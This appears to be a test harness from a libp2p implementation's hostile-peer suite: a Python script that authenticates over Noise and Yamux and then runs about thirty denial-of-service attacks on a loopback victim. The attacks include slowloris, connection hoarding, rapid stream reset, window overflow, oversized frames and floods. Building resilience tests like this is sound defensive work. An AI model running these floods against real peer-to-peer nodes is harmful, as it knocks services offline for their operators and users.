"""A hostile libp2p peer: speaks Noise and Yamux well enough to be let in, then does what no honest peer does.

    python -m tests.hostile.attacker ATTACK ADDR

Prints a JSON line once the first wave is out, then goes on until it is killed. Answers each line of stdin
with {"sent": N}: the messages or connections it got out, so that an attack that never gets through does not
look like a victim that holds out. Frames and ciphers come from Warren's pure machines; the sockets are plain
and blocking. It comes from many loopback addresses, as many hosts would, and runs at the lowest priority: a
real attacker does not share the victim's processor. The attacks stand at the end of this file, each with what
it tries to use up.
"""

from __future__ import annotations

import itertools
import json
import os
import resource
import select
import socket
import sys
import threading
import time
from contextlib import suppress
from typing import TYPE_CHECKING

from tests.hostile.victim import ASK_ID, DEAF_ID, SINK_ID, SOURCE_ID
from warren.core import varint
from warren.core.keys import PrivateKey
from warren.core.multiaddr import Multiaddr
from warren.network.ciphers import PLAINTEXT_BYTES_MAX
from warren.network.multistream import VERSION_LINE, encode_line
from warren.network.noise_security import Noise
from warren.network.proto.messages_pb2 import REQUEST, Message
from warren.network.security import MESSAGE_BYTES_MAX
from warren.network.upgrade import Upgrade
from warren.network.yamux.frames import (
    DATA,
    GO_AWAY,
    HEADER,
    INITIAL_WINDOW_BYTES,
    PING,
    PROTOCOL_ID,
    RST,
    SYN,
    WINDOW_UPDATE,
)
from warren.protocols.identify import PUSH_ID
from warren.protocols.ping import PROTOCOL_ID as PING_ID

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from warren.network.security import Opener, Sealer

IDENTIFY_LINE = encode_line("/ipfs/id/1.0.0")
CONNECT_TIMEOUT_S = 5.0
NOISE_HELLO = VERSION_LINE + encode_line("/noise")

FLOOD_BEGUN_S = 1.0
WAVE_MAX_S = 10.0

Target = tuple[str, int]
_announced: list[bool] = []
_tally = [0]


class GoneError(Exception):
    """The victim has hung up."""


def source_addresses(count: int) -> Iterator[str]:
    """`count` loopback addresses, in turns without end: as many hosts, for limits that count per host."""
    return itertools.cycle([f"127.0.{1 + at // 200}.{1 + at % 200}" for at in range(count)])


def connect(target: Target, source: str = "127.0.0.2") -> socket.socket:
    """A TCP connection from `source`. Raises OSError."""
    sock = socket.create_connection(target, CONNECT_TIMEOUT_S, (source, 0))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


class Intruder:
    """One connection that was let in: authenticated with a key of its own, Yamux agreed in the handshake.

    The victim's first word behind the handshake is the proof, which `hasty` does not wait for.
    """

    def __init__(self, target: Target, source: str = "127.0.0.2", *, hasty: bool = False) -> None:
        self.sock = connect(target, source)
        self._sealer: Sealer
        self._opener: Opener
        self._received = b""
        self._next_id = 1
        self._authenticate(PrivateKey.from_seed(os.urandom(32)))
        if not hasty and not self.sock.recv(1, socket.MSG_PEEK):
            raise GoneError

    def _authenticate(self, key: PrivateKey) -> None:
        noise = Noise(key, os.urandom(32), (PROTOCOL_ID,))
        upgrade = Upgrade((noise,), (PROTOCOL_ID,), os.urandom(32), initiator=True, expected=None)
        while True:
            self.send_raw(upgrade.take_output())
            if upgrade.secured is not None:
                break
            self._received += self._recv()
            used = upgrade.receive(memoryview(self._received))
            self._received = self._received[used:]
        assert upgrade.muxer == PROTOCOL_ID
        self._sealer, self._opener = upgrade.secured.sealer, upgrade.secured.opener

    def _recv(self) -> bytes:
        data = self.sock.recv(65536)
        if not data:
            raise GoneError
        return data

    def send_raw(self, data: bytes | bytearray) -> None:
        """Bytes as they are, past the cipher."""
        self.sock.sendall(data)

    def send(self, plaintext: bytes) -> None:
        """Frames, sealed, in as few messages as they fit in."""
        for at in range(0, len(plaintext), PLAINTEXT_BYTES_MAX):
            part = plaintext[at : at + PLAINTEXT_BYTES_MAX]
            out = bytearray(len(part) + self._sealer.overhead_bytes)
            self._sealer.seal_into(bytearray(part), memoryview(out))
            self.send_raw(out)
            count_sent()

    def ids(self, count: int) -> list[int]:
        """Stream ids that were not used yet."""
        first, self._next_id = self._next_id, self._next_id + 2 * count
        return list(range(first, self._next_id, 2))

    def open_streams(self, protocol: str, count: int, more: bytes = b"") -> list[int]:
        """Open `count` streams and propose `protocol` on each, with `more` behind the proposal."""
        ids = self.ids(count)
        body = VERSION_LINE + encode_line(protocol) + more
        self.send(b"".join(frame(DATA, SYN, stream_id, body) for stream_id in ids))
        return ids

    def answer_identify(self, body: bytes) -> None:
        """Read until the victim asks who we are, and answer with `body`."""
        end = time.monotonic() + CONNECT_TIMEOUT_S
        while time.monotonic() < end:
            for kind, flags, stream_id, _payload in self._frames():
                if kind in (DATA, WINDOW_UPDATE) and flags & SYN:
                    self.send(frame(DATA, 2, stream_id, VERSION_LINE + IDENTIFY_LINE))
                    for at in range(0, len(body), 32768):
                        self.send(frame(DATA, 0, stream_id, body[at : at + 32768]))
                    return

    def _frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        self._received += self._recv()
        plaintext = b""
        out = memoryview(bytearray(MESSAGE_BYTES_MAX))
        while True:
            end, opened = self._opener.open_next(memoryview(self._received), 0, out)
            if not end:
                break
            plaintext, self._received = plaintext + bytes(opened), self._received[end:]
        while len(plaintext) >= HEADER.size:
            _, kind, flags, stream_id, length = HEADER.unpack_from(plaintext)
            size = length if kind == DATA else 0
            yield kind, flags, stream_id, plaintext[HEADER.size : HEADER.size + size]
            plaintext = plaintext[HEADER.size + size :]

    def drain(self) -> None:
        """Throw away what the victim has sent, without waiting."""
        while _readable(self.sock):
            self._recv()

    def close(self) -> None:
        self.sock.close()


def frame(kind: int, flags: int, stream_id: int, body: bytes = b"", length: int | None = None) -> bytes:
    """A Yamux frame; `length` lies about the body."""
    return HEADER.pack(0, kind, flags, stream_id, len(body) if length is None else length) + body


# --- the shapes that attacks have ---------------------------------------------------------------------------


def announce(**facts: object) -> None:
    """The first wave is out; said once."""
    if not _announced:
        _announced.append(True)
        print(json.dumps({"attacking": True, **facts}), flush=True)


def announce_after(seconds: float) -> None:
    """The same, at the latest by then: the victim may slow an attack down."""
    wave = threading.Timer(seconds, announce)
    wave.daemon = True
    wave.start()


def count_sent() -> None:
    """One more has gone out: a sealed message on a connection that was let in, or else a connection."""
    _tally[0] += 1


def tell_sent() -> None:
    """Answer who asks how much that was."""
    for _ in sys.stdin:
        print(json.dumps({"sent": _tally[0]}), flush=True)


def again_and_again(target: Target, once: Callable[[Target, str], None], hosts: int = 8) -> None:
    """Do `once` from one host after the other, whatever the victim says to it."""
    announce_after(FLOOD_BEGUN_S)
    for source in source_addresses(hosts):
        with suppress(OSError, GoneError):
            once(target, source)


def hold_open(target: Target, count: int, hosts: int, opener: Callable[[socket.socket], None]) -> None:
    """Keep `count` connections open, each begun by `opener`; who is dropped comes back."""
    held: list[socket.socket] = []
    for source in source_addresses(hosts):
        with suppress(OSError):
            sock = connect(target, source)
            opener(sock)
            count_sent()
            held.append(sock)
        if len(held) >= count or len(held) % 100 == 0:
            held = [sock for sock in held if not _hung_up(sock)]
        if len(held) >= count:
            time.sleep(0.05)
        if len(held) >= 300:
            announce(held=len(held))


def _readable(sock: socket.socket) -> bool:
    poll = select.poll()  # select() cannot watch the thousands that are held
    poll.register(sock, select.POLLIN)
    return bool(poll.poll(0))


def _hung_up(sock: socket.socket) -> bool:
    if not _readable(sock):
        return False
    try:
        return not sock.recv(65536)
    except OSError:
        return True


def flood(target: Target, make: Callable[[Intruder], bytes], hosts: int = 8) -> None:
    """On one connection after the other: send what `make` gives as fast as it is taken, until cut off."""

    def once(target: Target, source: str) -> None:
        intruder = Intruder(target, source)
        try:
            for _ in range(10_000):
                intruder.send(make(intruder))
                intruder.drain()
        finally:
            intruder.close()

    again_and_again(target, once, hosts)


# --- the attacks --------------------------------------------------------------------------------------------


def slow_handshake(target: Target) -> None:
    """Slowloris: handshakes that go on a byte at a time; the places for newcomers."""
    held: list[tuple[socket.socket, Iterator[bytes]]] = []
    sources = source_addresses(16)
    for turn in itertools.count():
        while len(held) < 500:
            with suppress(OSError):
                hello = NOISE_HELLO + b"\x00\x20" + os.urandom(32)
                held.append(
                    (connect(target, next(sources)), iter([hello[at : at + 1] for at in range(len(hello))]))
                )
                count_sent()
        alive = []
        for sock, rest in held:
            with suppress(OSError, StopIteration):
                sock.send(next(rest))
                if not _hung_up(sock):
                    alive.append((sock, rest))
        held = alive
        time.sleep(0.2)
        if turn == 3:
            announce(held=len(held))


def half_open(target: Target) -> None:
    """Thousands of connections that say nothing; file descriptors and the places for newcomers."""
    hold_open(target, 3000, 40, lambda sock: None)


def half_shaken(target: Target) -> None:
    """Connections that stop after the first handshake message: the victim's processor, and the places."""
    hold_open(target, 3000, 40, lambda sock: sock.sendall(NOISE_HELLO + b"\x00\x20" + os.urandom(32)))


def handshake_flood(target: Target) -> None:
    """First messages of handshakes as fast as they are taken: the processor."""

    def once(target: Target, source: str) -> None:
        with connect(target, source) as sock:
            sock.sendall(NOISE_HELLO + b"\x00\x20" + os.urandom(32))
            count_sent()
            sock.recv(1)

    again_and_again(target, once, 40)


def garbage_hello(target: Target) -> None:
    """Noise where the handshake should be, and Noise lengths that promise much."""
    payloads = itertools.cycle(
        [os.urandom(4096), NOISE_HELLO + b"\xff\xff" + os.urandom(60_000), b"\x00" * 4096]
    )

    def once(target: Target, source: str) -> None:
        with connect(target, source) as sock:
            sock.sendall(next(payloads))
            count_sent()
            sock.recv(4096)

    again_and_again(target, once)


def rapid_reset(target: Target) -> None:
    """Streams opened and reset at once: the work that a new stream makes (CVE-2023-44487 in HTTP/2)."""
    flood(
        target,
        lambda intruder: b"".join(
            frame(WINDOW_UPDATE, SYN, stream_id) + frame(WINDOW_UPDATE, RST, stream_id)
            for stream_id in intruder.ids(500)
        ),
    )


def rapid_reset_of_handlers(target: Target) -> None:
    """The same after a protocol was agreed, so that a handler has begun."""
    hello = VERSION_LINE + encode_line(SOURCE_ID)
    flood(
        target,
        lambda intruder: b"".join(
            frame(DATA, SYN, stream_id, hello) + frame(WINDOW_UPDATE, RST, stream_id)
            for stream_id in intruder.ids(200)
        ),
    )


def window_overflow(target: Target) -> None:
    """More data than the window of the stream allows: the receiver's memory."""

    def make(intruder: Intruder) -> bytes:
        (stream_id,) = intruder.open_streams(DEAF_ID, 1)
        return b"".join(frame(DATA, 0, stream_id, bytes(60_000)) for _ in range(20))

    flood(target, make)


def window_counter_overflow(target: Target) -> None:
    """Window updates that add up to more than 32 bits."""

    def make(intruder: Intruder) -> bytes:
        (stream_id,) = intruder.open_streams(SOURCE_ID, 1)
        return frame(WINDOW_UPDATE, 0, stream_id, length=0xFFFFFFFF) * 8

    flood(target, make)


def zero_window_stall(target: Target) -> None:
    """Asks for endless data on many streams and never takes any: the sender's buffers."""
    held = []
    for source in itertools.islice(source_addresses(8), 8):
        intruder = Intruder(target, source)
        intruder.open_streams(SOURCE_ID, 500)
        held.append(intruder)
    announce(streams=len(held) * 500)
    while True:
        time.sleep(1)


def unread_echoes(target: Target) -> None:
    """Fills the windows of a thousand ping streams and never reads an echo: both buffers of each stream."""
    held = []
    for source in itertools.islice(source_addresses(4), 4):
        intruder = Intruder(target, source)
        intruder.sock.settimeout(2)
        held.append(intruder)
        with suppress(OSError):
            ids = intruder.open_streams(PING_ID, 1000)
            body = bytes(32_000)
            for _ in range(INITIAL_WINDOW_BYTES // len(body) - 1):
                for stream_id in ids:
                    intruder.send(frame(DATA, 0, stream_id, body))
    announce(streams=len(held) * 1000)
    while True:
        time.sleep(1)


def unread_streams(target: Target) -> None:
    """Fills the windows of a thousand streams whose handler does not read: the receiver's buffers."""
    held = []
    for source in itertools.islice(source_addresses(2), 2):
        intruder = Intruder(target, source)
        intruder.sock.settimeout(2)
        held.append(intruder)
        with suppress(OSError):
            ids = intruder.open_streams(DEAF_ID, 1000)
            body = bytes(64_000)
            for _ in range(INITIAL_WINDOW_BYTES // len(body)):
                for stream_id in ids:
                    intruder.send(frame(DATA, 0, stream_id, body))
    announce(streams=len(held) * 1000)
    while True:
        time.sleep(1)


def hoarded_streams(target: Target) -> None:
    """As many connections as one host may have, each with all the streams it may have, idle: objects."""
    held = []
    with suppress(OSError, GoneError):
        for _ in range(250):
            intruder = Intruder(target)
            intruder.send(b"".join(frame(WINDOW_UPDATE, SYN, stream_id) for stream_id in intruder.ids(1024)))
            held.append(intruder)
    announce(connections=len(held))
    while True:
        time.sleep(1)


def oversized_frames(target: Target) -> None:
    """Frames that announce four gigabytes."""

    def make(intruder: Intruder) -> bytes:
        (stream_id,) = intruder.open_streams(SINK_ID, 1)
        return frame(DATA, 0, stream_id, bytes(60_000), length=0xFFFFFFFF)

    flood(target, make)


def garbage_frames(target: Target) -> None:
    """Random bytes where frames should be, properly sealed."""
    flood(target, lambda intruder: os.urandom(60_000))


def unknown_frames(target: Target) -> None:
    """Frame types that do not exist."""
    flood(target, lambda intruder: frame(9, 0, 0) * 1000)


def bad_seals(target: Target) -> None:
    """Sealed messages that do not open."""

    def once(target: Target, source: str) -> None:
        intruder = Intruder(target, source)
        intruder.send_raw(b"\xff\xff" + os.urandom(65535))
        count_sent()
        intruder.close()

    again_and_again(target, once)


def ping_flood(target: Target) -> None:
    """Yamux pings as fast as they are taken, answers read: the processor."""
    flood(target, lambda intruder: frame(PING, SYN, 0, length=7) * 2000)


def ping_flood_unread(target: Target) -> None:
    """The same without reading an answer: the sender's buffer."""

    def once(target: Target, source: str) -> None:
        intruder = Intruder(target, source)
        intruder.sock.settimeout(1)
        try:
            for _ in range(1000):
                intruder.send(frame(PING, SYN, 0, length=7) * 2000)
        finally:
            intruder.close()

    again_and_again(target, once)


def go_away_flood(target: Target) -> None:
    """Goodbyes without end."""
    flood(target, lambda intruder: frame(GO_AWAY, 0, 0, length=0) * 2000)


def empty_data_flood(target: Target) -> None:
    """Data frames that carry none, on one open stream."""

    def make(intruder: Intruder) -> bytes:
        (stream_id,) = intruder.open_streams(SINK_ID, 1)
        return frame(DATA, 0, stream_id) * 2000

    flood(target, make)


def crumbs(target: Target) -> None:
    """Data a byte at a time, each in a frame of its own, on a stream that is read: work per byte."""

    def make(intruder: Intruder) -> bytes:
        (stream_id,) = intruder.open_streams(SINK_ID, 1)
        return frame(DATA, 0, stream_id, b"x") * 4000

    flood(target, make)


def crumbs_unread(target: Target) -> None:
    """The same on streams that are not read: an object for each byte of the window."""
    held = []
    for source in itertools.islice(source_addresses(4), 4):
        intruder = Intruder(target, source)
        intruder.sock.settimeout(2)
        held.append(intruder)
        with suppress(OSError):
            for stream_id in intruder.open_streams(DEAF_ID, 8):
                for _ in range(50):
                    intruder.send(frame(DATA, 0, stream_id, b"x") * 5000)
    announce(connections=len(held))
    while True:
        time.sleep(1)


def huge_identify(target: Target) -> None:
    """An identify answer that announces a gigabyte, then sends on and on."""
    body = varint.encode(1 << 30) + bytes(200_000)
    _identify(target, lambda: body)


def garbage_identify(target: Target) -> None:
    """Identify answers that are no protobuf, or one with tens of thousands of fields."""
    many = b"".join(b"\x12\x04\x04\x7f\x00\x00" for _ in range(10_000))
    bodies = itertools.cycle([os.urandom(60_000), many, b"\x0a\xff\xff\xff\xff\x0f" + bytes(1000)])

    def make() -> bytes:
        body = next(bodies)
        return varint.encode(len(body)) + body

    _identify(target, make)


def _identify(target: Target, make: Callable[[], bytes]) -> None:
    def once(target: Target, source: str) -> None:
        intruder = Intruder(target, source)
        try:
            intruder.answer_identify(make())
            intruder.sock.recv(1)
        finally:
            intruder.close()

    again_and_again(target, once)


def push_flood(target: Target) -> None:
    """identify/push messages full of addresses and protocols, one after the other: parsing."""
    fields = b"".join(b"\x12\x08\x04\x7f\x00\x00\x01\x06" + os.urandom(2) for _ in range(3000))
    body = varint.encode(len(fields)) + fields

    def make(intruder: Intruder) -> bytes:
        (stream_id,) = intruder.open_streams(PUSH_ID, 1)
        return frame(DATA, 4, stream_id, body)

    flood(target, make)


def half_messages(target: Target) -> None:
    """Requests of four megabytes that all but end, on a thousand streams: what is kept of each."""
    size = 4 * 1024 * 1024
    held = []
    for source in itertools.islice(source_addresses(2), 2):
        intruder = Intruder(target, source)
        intruder.sock.settimeout(2)
        held.append(intruder)
        with suppress(OSError, GoneError):
            ids = intruder.open_streams(ASK_ID, 1000, varint.encode(size))
            for _ in range(size // 64_000):
                for stream_id in ids:
                    intruder.send(frame(DATA, 0, stream_id, bytes(64_000)))
                    intruder.drain()
    announce(streams=len(held) * 1000)
    while True:
        time.sleep(1)


def unread_answers(target: Target) -> None:
    """Small requests with large answers that are never taken: the sender's buffers, and tasks that wait."""
    request = Message(id=1, kind=REQUEST, payload=b"?").SerializeToString()
    many = (varint.encode(len(request)) + request) * 1000
    held = []
    for source in itertools.islice(source_addresses(4), 4):
        intruder = Intruder(target, source)
        intruder.sock.settimeout(2)
        held.append(intruder)
        with suppress(OSError):
            intruder.open_streams(ASK_ID, 500, many)
    announce(streams=len(held) * 500)
    while True:
        time.sleep(1)


def connection_churn(target: Target) -> None:
    """Whole handshakes with ever new keys, then gone: the processor, and what is kept of a peer."""

    def once(target: Target, source: str) -> None:
        Intruder(target, source, hasty=True).close()
        count_sent()

    again_and_again(target, once, 40)


def unknown_protocols(target: Target) -> None:
    """Streams that propose one protocol after the other that nobody speaks."""
    names = b"".join(encode_line(f"/nobody/speaks/{at}") for at in range(100))

    def make(intruder: Intruder) -> bytes:
        return b"".join(frame(DATA, SYN, stream_id, VERSION_LINE + names) for stream_id in intruder.ids(20))

    flood(target, make)


ATTACKS: tuple[Callable[[Target], None], ...] = (
    slow_handshake,
    half_open,
    half_shaken,
    handshake_flood,
    garbage_hello,
    rapid_reset,
    rapid_reset_of_handlers,
    window_overflow,
    window_counter_overflow,
    zero_window_stall,
    unread_echoes,
    unread_streams,
    hoarded_streams,
    oversized_frames,
    garbage_frames,
    unknown_frames,
    bad_seals,
    ping_flood,
    ping_flood_unread,
    go_away_flood,
    empty_data_flood,
    crumbs,
    crumbs_unread,
    huge_identify,
    garbage_identify,
    push_flood,
    unknown_protocols,
    half_messages,
    unread_answers,
    connection_churn,
)


def run() -> None:
    """Run the attack that the command line names."""
    attack = next(attack for attack in ATTACKS if attack.__name__ == sys.argv[1])
    address = Multiaddr.parse(sys.argv[2])
    assert address.host is not None
    assert address.port is not None
    os.nice(19)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    announce_after(WAVE_MAX_S)
    threading.Thread(target=tell_sent, daemon=True).start()
    attack((address.host, address.port))


if __name__ == "__main__":
    run()
